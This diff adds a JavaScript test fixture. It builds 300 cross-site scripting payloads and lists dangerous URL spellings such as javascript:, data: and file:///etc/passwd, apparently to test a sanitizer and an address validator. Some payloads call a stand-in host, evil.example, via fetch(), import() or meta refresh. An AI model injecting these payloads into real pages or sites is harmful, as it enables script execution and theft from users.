@@ -1,0 +1,78 @@
+/** Calls that would be seen: a dialog, or a request to a host that nobody may ask. */
+const calls = [
+  'alert(1)',
+  'prompt(1)',
+  "fetch('https://evil.example')",
+  'top.alert(1)',
+  'import("https://evil.example/x.js")',
+  'window["al"+"ert"](1)',
+  'alert`1`',
+  'setTimeout("alert(1)")',
+  'eval("alert(1)")',
+  'Function("alert(1)")()',
+];
+
+/** @type {((call: string) => string)[]} */
+const forms = [
+  (call) => `<script>${call}</script>`,
+  (call) => `"><script>${call}</script>`,
+  (call) => `</title><script>${call}</script>`,
+  (call) => `</textarea><script>${call}</script>`,
+  (call) => `<img src=x onerror=${call}>`,
+  (call) => `"><img src=x onerror="${call.replaceAll('"', "'")}">`,
+  (call) => `<svg onload=${call}>`,
+  (call) => `<svg><script>${call}</script></svg>`,
+  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  (call) => `<body onload=${call}>`,
+  (call) => `<iframe src="javascript:${call.replaceAll('"', "'")}"></iframe>`,
+  (call) => `<iframe srcdoc="<script>${call.replaceAll('"', "'")}</script>"></iframe>`,
+  (call) => `<a href="javascript:${call.replaceAll('"', "'")}">x</a>`,
+  (call) => `<a href=JaVaScRiPt:${call}>x</a>`,
+  (call) => `javascript:${call}`,
+  (call) => `data:text/html,<script>${call}</script>`,
+  (call) => `<details open ontoggle=${call}>x</details>`,
+  (call) => `<input autofocus onfocus=${call}>`,
+  (call) => `<video><source onerror=${call}></video>`,
+  (call) => `<math><mi xlink:href="data:x,<script>${call}</script>"></mi></math>`,
+  (call) => `<object data="javascript:${call.replaceAll('"', "'")}"></object>`,
+  (call) => `<base href="https://evil.example/"><!-- ${call} -->`,
+  (call) => `<link rel=stylesheet href=https://evil.example/x.css><!-- ${call} -->`,
+  (call) => `<style>@import'https://evil.example/x.css';/*${call}*/</style>`,
+  (call) => `<meta http-equiv=refresh content="0;url=https://evil.example/?${encodeURIComponent(call)}">`,
+  (call) => `{{constructor.constructor('${call.replaceAll("'", '"')}')()}}`,
+  (call) => `\${${call}}`,
+  (call) => `';${call}//`,
+  (call) => `" onmouseover="${call.replaceAll('"', "'")}" autofocus onfocus="${call.replaceAll('"', "'")}`,
+  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+];
+
+/** 300 of them. */
+export const xssPayloads = calls.flatMap((call) => forms.map((form) => form(call)));
+
+/** Spellings of an address that a browser might run or that is no address of a service. */
+export const badServiceAddresses = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  ' javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'java\nscript:alert(1)',
+  '\u0001javascript:alert(1)',
+  'javascript&colon;alert(1)',
+  'javascript://example.com/%0aalert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'vbscript:msgbox(1)',
+  'file:///etc/passwd',
+  'blob:https://example.com/x',
+  'about:blank',
+  'ftp://example.com/',
+  '//evil.example',
+  '/relative',
+  'https:',
+  'http://',
+  'view-source:https://example.com',
+  'ws://example.com',
+  'https://',
+  'filesystem:https://example.com/x',
+  'mailto:a@b.co',
+];
